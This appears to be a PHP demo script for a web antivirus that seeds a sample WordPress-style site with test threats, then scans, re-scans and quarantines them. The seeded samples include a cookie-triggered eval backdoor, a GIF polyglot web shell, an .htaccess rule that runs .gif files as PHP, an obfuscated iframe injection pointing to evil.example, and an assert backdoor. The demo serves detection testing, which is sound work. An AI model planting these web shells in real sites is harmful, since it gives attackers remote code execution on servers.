<?php
/**
 * Demo of the antivirus: a sample site seeded with a few test threats is
 * scanned natively (webtotem_scan_path) with a baseline; a file change is
 * detected on the re-scan; the backdoor is quarantined and restored.
 * In Plesk, file contents come through pm_FileManager (webtotem_scan_file)
 * or the whole root is scanned by the CLI as root (webtotem scan).
 */
declare(strict_types=1);

$base = $argv[1] ?? sys_get_temp_dir() . '/webtotem-demo';
$site = "$base/vhosts/shop.example/httpdocs";
$state = "$base/var/shop.example";   // outside the document root
@mkdir($state, 0700, true);

$files = [
    'index.php' => "<?php\ndefine('WP_USE_THEMES', true);\nrequire __DIR__ . '/wp-blog-header.php';\n",
    'wp-content/themes/shop/functions.php' => "<?php\nadd_action('wp_footer', function () { echo '<p>Thanks for visiting</p>'; });\n",
    // Test threats written for the demo (inert: example domains, no real payloads).
    'wp-content/uploads/2024/05/cache.php' => "<?php\n\$k = \$_COOKIE['wp_k'] ?? '';\nif (\$k !== '') {\n    @eval(base64_decode(\$k));\n}\n",
    'wp-content/uploads/2024/05/logo.gif' => "GIF89a\x01\x00\x01\x00\x80\x00\x00<?php system(\$_GET['c']); ?>",
    'wp-includes/js/stats.js' => "var a=1;\ndocument.write(unescape('%3C%69%66%72%61%6D%65%20%73%72%63%3D%22%2F%2F%65%76%69%6C%2E%65%78%61%6D%70%6C%65%22%3E'));\n",
    '.htaccess' => "AddHandler application/x-httpd-php .gif\n",
];
foreach ($files as $rel => $body) {
    @mkdir(dirname("$site/$rel"), 0755, true);
    file_put_contents("$site/$rel", $body);
}

function show(array $report): void
{
    foreach ($report['findings'] as $f) {
        printf("  %-8s %-11s %s:%d  %s\n", strtoupper($f['severity']), $f['category'], $f['path'], $f['line'], $f['description']);
    }
    $c = $report['changes'];
    foreach (['added', 'modified', 'deleted', 'mode_changed'] as $kind) {
        foreach ($c[$kind] as $p) {
            printf("  %-12s %s\n", $kind, $p);
        }
    }
    $s = $report['summary'];
    printf("  => %d files, %d scanned, %d unchanged, %d findings, %d samples for research, %d ms\n",
        $s['files'], $s['scanned'], $s['reused'], count($report['findings']), count($report['samples']), $s['duration_ms']);
}

$options = ['baseline' => "$state/antivirus.baseline"];
echo "first scan (creates the baseline):\n";
show(webtotem_scan_path($site, $options));

echo "\nthe theme's functions.php is edited; incremental re-scan:\n";
file_put_contents("$site/wp-content/themes/shop/functions.php", "<?php\n@assert(\$_REQUEST['x']);\n", FILE_APPEND);
show(webtotem_scan_path($site, $options + ['incremental' => true]));

echo "\nquarantine the backdoor, then restore it byte for byte:\n";
$victim = "$site/wp-content/uploads/2024/05/cache.php";
$before = hash_file('sha256', $victim);
$record = webtotem_quarantine($site, "$state/quarantine", $victim, 'php-code-exec-request');
printf("  quarantined %s as %s (exists now: %s)\n", substr($record['original'], strlen($site) + 1), $record['id'], var_export(file_exists($victim), true));
printf("  quarantine holds %d file(s)\n", count(webtotem_quarantine_list("$state/quarantine")));
webtotem_restore("$state/quarantine", $record['id']);
printf("  restored; sha256 unchanged: %s\n", var_export(hash_file('sha256', $victim) === $before, true));

echo "\none file's contents as the Plesk module hands them over (webtotem_scan_file):\n";
$one = webtotem_scan_file('wp-content/uploads/2024/05/logo.gif', file_get_contents("$site/wp-content/uploads/2024/05/logo.gif"));
foreach ($one['findings'] as $f) {
    printf("  %s %s line %d: %s\n", $f['severity'], $f['category'], $f['line'], $f['snippet']);
}
